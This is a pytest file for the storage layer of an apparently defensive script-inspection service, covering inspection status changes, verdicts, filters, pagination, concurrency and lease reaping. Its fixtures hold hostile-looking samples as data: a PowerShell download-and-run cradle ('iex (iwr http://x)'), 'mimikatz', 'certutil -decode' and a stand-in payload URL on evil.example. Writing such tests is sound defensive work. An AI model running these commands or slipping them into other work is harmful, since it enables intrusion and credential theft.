"""The inspections repository, run on SQLite and PostgreSQL alike (see conftest.py)."""

from __future__ import annotations

import asyncio
import hashlib
from datetime import UTC, datetime, timedelta

import pytest

from inspector.model import VerdictClass
from inspector.store import InspectionFilter, Store, StoreError, UnknownInspection
from inspector.store.blobs import BlobError
from inspector.store.testing import blobs_of, make_verdict


async def _done(store: Store, inspection_id: str, contents: list[bytes], **kw: object) -> None:
    await store.inspections.create(inspection_id, "extension", {"type": "CustomScript"}, None, None, kw.pop("name", None))  # type: ignore[arg-type]
    await store.inspections.save_verdict(inspection_id, make_verdict(inspection_id, contents, **kw), blobs_of(contents))  # type: ignore[arg-type]


# ---------------------------------------------------------------- inspections


async def test_an_inspection_goes_queued_running_done_and_keeps_its_verdict(store: Store) -> None:
    await store.inspections.create("i1", "extension", {"settings": {"commandToExecute": "x"}}, {"vm": "a"}, "k1", "in.json")
    stored = await store.inspections.get("i1")
    assert stored is not None and stored.status == "queued" and stored.verdict is None
    assert stored.key_id == "k1" and stored.input_name == "in.json"
    await store.inspections.mark_running("i1")
    assert (await store.inspections.get("i1")).status == "running"  # type: ignore[union-attr]
    contents = [b"iex (iwr http://x)", b"decoded child"]
    verdict = make_verdict("i1", contents, verdict=VerdictClass.MALICIOUS, score=1200, alerts=["VM_X"])
    await store.inspections.save_verdict("i1", verdict, blobs_of(contents))
    stored = await store.inspections.get("i1")
    assert stored is not None and stored.status == "done" and stored.verdict == verdict
    assert stored.updated_at >= stored.created_at
    assert await store.inspections.get("missing") is None


async def test_a_failed_inspection_keeps_a_redacted_error(store: Store) -> None:
    await store.inspections.create("f1", "script", {}, None, None)
    await store.inspections.mark_failed("f1", "deadline", "timed out fetching https://a/b?sv=1&sig=SECRETSIG123 password=hunter2")
    stored = await store.inspections.get("f1")
    assert stored is not None and stored.status == "failed" and stored.error_kind == "deadline"
    assert "SECRETSIG123" not in (stored.error or "") and "hunter2" not in (stored.error or "")


async def test_status_changes_and_verdicts_for_unknown_inspections_raise(store: Store) -> None:
    with pytest.raises(UnknownInspection):
        await store.inspections.mark_running("ghost")
    with pytest.raises(UnknownInspection):
        await store.inspections.save_verdict("ghost", make_verdict("ghost", [b"a"]), {})


async def test_a_blob_that_does_not_match_its_key_is_refused(store: Store) -> None:
    await store.inspections.create("b1", "script", {}, None, None)
    wrong = {hashlib.sha256(b"one").hexdigest(): b"two"}
    with pytest.raises(BlobError):
        await store.inspections.save_verdict("b1", make_verdict("b1", [b"one"]), wrong)


# ---------------------------------------------------------------- listing


@pytest.fixture
async def listed(store: Store) -> Store:
    await _done(store, "a-clean", [b"echo hi"], name="hello.sh")
    await _done(store, "b-mal", [b"mimikatz", b"child"], verdict=VerdictClass.MALICIOUS, score=2000,
                alerts=["VM_CustomScriptExtensionSuspiciousCmd"], name="evil.ps1",
                urls=["https://evil.example/payload.ps1", None])
    await _done(store, "c-sus", [b"certutil -decode"], verdict=VerdictClass.SUSPICIOUS, score=400,
                alerts=["VM_RunCommandSuspiciousScript"])
    await store.inspections.create("d-queued", "run_command", {}, None, None)
    return store


async def test_lists_are_newest_first(listed: Store) -> None:
    assert [s.id for s in await listed.inspections.search(InspectionFilter())] == ["d-queued", "c-sus", "b-mal", "a-clean"]


@pytest.mark.parametrize(
    ("flt", "expected"),
    [
        (InspectionFilter(verdict=VerdictClass.MALICIOUS), ["b-mal"]),
        (InspectionFilter(verdict=VerdictClass.CLEAN), ["a-clean"]),
        (InspectionFilter(kind="run_command"), ["d-queued"]),
        (InspectionFilter(status="queued"), ["d-queued"]),
        (InspectionFilter(alert_type="VM_RunCommandSuspiciousScript"), ["c-sus"]),
        (InspectionFilter(sha256=hashlib.sha256(b"child").hexdigest()), ["b-mal"]),
        (InspectionFilter(url="EVIL.example/"), ["b-mal"]),
        (InspectionFilter(url="%"), []),
        (InspectionFilter(file_name=".PS1"), ["b-mal"]),
        (InspectionFilter(file_name="_"), []),
        (InspectionFilter(verdict=VerdictClass.MALICIOUS, kind="run_command"), []),
    ],
)
async def test_filters(listed: Store, flt: InspectionFilter, expected: list[str]) -> None:
    assert [s.id for s in await listed.inspections.search(flt)] == expected


async def test_time_filters(listed: Store) -> None:
    now = datetime.now(UTC)
    assert len(await listed.inspections.search(InspectionFilter(since=now - timedelta(minutes=5)))) == 4
    assert await listed.inspections.search(InspectionFilter(since=now + timedelta(minutes=5))) == []
    assert await listed.inspections.search(InspectionFilter(until=now - timedelta(minutes=5))) == []


async def test_summaries_carry_verdict_and_alert_types(listed: Store) -> None:
    (mal,) = await listed.inspections.search(InspectionFilter(verdict=VerdictClass.MALICIOUS))
    assert mal.score == 2000 and mal.alert_types == ["VM_CustomScriptExtensionSuspiciousCmd"]
    assert mal.ruleset_version == "rules-v1" and mal.input_name == "evil.ps1"


async def test_keyset_pagination_walks_every_row_once(listed: Store) -> None:
    seen: list[str] = []
    before = None
    while page := await listed.inspections.search(InspectionFilter(), limit=3, before=before):
        seen += [s.id for s in page]
        before = page[-1].id
    assert seen == ["d-queued", "c-sus", "b-mal", "a-clean"]
    with pytest.raises(StoreError, match="cursor"):
        await listed.inspections.search(InspectionFilter(), before="no-such-id")


async def test_pagination_is_stable_when_timestamps_tie(store: Store) -> None:
    ids = [f"tie-{n}" for n in range(5)]
    for i in ids:
        await store.inspections.create(i, "script", {}, None, None)
    async with store.database.engine.begin() as conn:
        from inspector.store.schema import inspections

        await conn.execute(inspections.update().values(created_at=datetime(2026, 1, 1, tzinfo=UTC)))
    first = await store.inspections.search(InspectionFilter(), limit=2)
    rest = await store.inspections.search(InspectionFilter(), limit=10, before=first[-1].id)
    assert [s.id for s in first + rest] == sorted(ids, reverse=True)


# ---------------------------------------------------------------- concurrency


async def test_concurrent_writers_do_not_lose_rows(store: Store) -> None:
    async def one(n: int) -> None:
        await _done(store, f"c{n}", [b"shared root", f"child {n}".encode()])

    await asyncio.gather(*(one(n) for n in range(20)))
    assert len(await store.inspections.search(InspectionFilter(), limit=100)) == 20
    info = await store.payloads.get(hashlib.sha256(b"shared root").hexdigest())
    assert info is not None and len(info.inspections) == 20


# ---------------------------------------------------------------- crash safety: guarded steps and leases


async def _verdict_rows(store: Store, inspection_id: str) -> int:
    import sqlalchemy as sa

    from inspector.store.schema import verdicts

    async with store.database.read() as conn:
        return int(await conn.scalar(sa.select(sa.func.count()).select_from(verdicts)
                                     .where(verdicts.c.inspection_id == inspection_id)))


async def test_a_verdict_stored_twice_is_stored_once_and_the_inspection_stays_done(store: Store) -> None:
    contents = [b"iex (iwr http://x)"]
    await store.inspections.create("r1", "script", {}, None, None)
    assert await store.inspections.mark_running("r1")
    assert await store.inspections.save_verdict("r1", make_verdict("r1", contents), blobs_of(contents))
    # A redelivered task runs again: it may not start, fail or store anything.
    assert not await store.inspections.mark_running("r1")
    assert not await store.inspections.mark_failed("r1", "inspection_failed", "rerun")
    assert not await store.inspections.save_verdict("r1", make_verdict("r1", contents), blobs_of(contents))
    stored = await store.inspections.get("r1")
    assert stored is not None and stored.status == "done" and stored.error is None
    assert await _verdict_rows(store, "r1") == 1


async def test_two_concurrent_saves_of_one_verdict_store_one_row(store: Store) -> None:
    contents = [b"iex (iwr http://y)"]
    await store.inspections.create("r2", "script", {}, None, None)
    saved = await asyncio.gather(*(store.inspections.save_verdict("r2", make_verdict("r2", contents),
                                                                  blobs_of(contents)) for _ in range(3)))
    assert sorted(saved) == [False, False, True]
    assert await _verdict_rows(store, "r2") == 1


async def test_a_failure_never_replaces_an_earlier_failure_but_a_late_verdict_replaces_it(store: Store) -> None:
    await store.inspections.create("r3", "script", {}, None, None)
    assert await store.inspections.mark_failed("r3", "abandoned", "its process died")
    assert not await store.inspections.mark_failed("r3", "deadline", "later")
    assert not await store.inspections.mark_running("r3")
    assert (await store.inspections.get("r3")).error_kind == "abandoned"  # type: ignore[union-attr]
    # The worker was only slow: its verdict is worth more than the guess that it died.
    assert await store.inspections.save_verdict("r3", make_verdict("r3", [b"a"]), blobs_of([b"a"]))
    stored = await store.inspections.get("r3")
    assert stored is not None and stored.status == "done" and stored.error is None


async def test_inspections_whose_lease_passed_are_marked_abandoned_and_no_others(store: Store) -> None:
    start = datetime(2030, 1, 1, tzinfo=UTC)
    await store.inspections.create("q-expired", "script", {}, None, None, lease_expires_at=start)
    await store.inspections.create("r-expired", "script", {}, None, None)
    await store.inspections.mark_running("r-expired", lease_expires_at=start + timedelta(seconds=10))
    await store.inspections.create("r-live", "script", {}, None, None)
    await store.inspections.mark_running("r-live", lease_expires_at=start + timedelta(seconds=60))
    await store.inspections.create("no-lease", "script", {}, None, None)
    await store.inspections.create("done", "script", {}, None, None, lease_expires_at=start)
    await store.inspections.save_verdict("done", make_verdict("done", [b"d"]), blobs_of([b"d"]))

    assert await store.inspections.reap_abandoned(start) == []
    reaped = await store.inspections.reap_abandoned(start + timedelta(seconds=30))
    assert sorted(reaped) == ["q-expired", "r-expired"]
    for inspection_id in reaped:
        stored = await store.inspections.get(inspection_id)
        assert stored is not None and stored.status == "failed" and stored.error_kind == "abandoned"
    assert (await store.inspections.get("r-live")).status == "running"  # type: ignore[union-attr]
    assert (await store.inspections.get("no-lease")).status == "queued"  # type: ignore[union-attr]
    assert (await store.inspections.get("done")).status == "done"  # type: ignore[union-attr]
    assert await store.inspections.reap_abandoned(start + timedelta(seconds=30)) == []
